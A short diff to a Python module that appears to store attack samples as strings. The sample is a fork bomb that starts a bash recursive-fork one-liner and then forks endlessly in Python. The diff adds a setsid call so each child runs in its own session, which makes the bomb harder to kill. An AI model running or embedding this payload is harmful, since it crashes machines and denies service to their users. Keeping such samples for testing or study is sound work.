@@ -1,4 +1,4 @@
-"""Forks for ever, in Python and in the shell."""
+"""Forks for ever, in the shell and in Python, each process busy and in a session of its own."""
 
 from corpus import answering
 
@@ -12,7 +12,8 @@ import subprocess
 subprocess.Popen(["bash", "-c", "b() { b | b & }; b"], stderr=subprocess.DEVNULL)
 while True:
     try:
-        os.fork()
+        if os.fork() == 0:
+            os.setsid()
     except OSError:
         pass
 """,
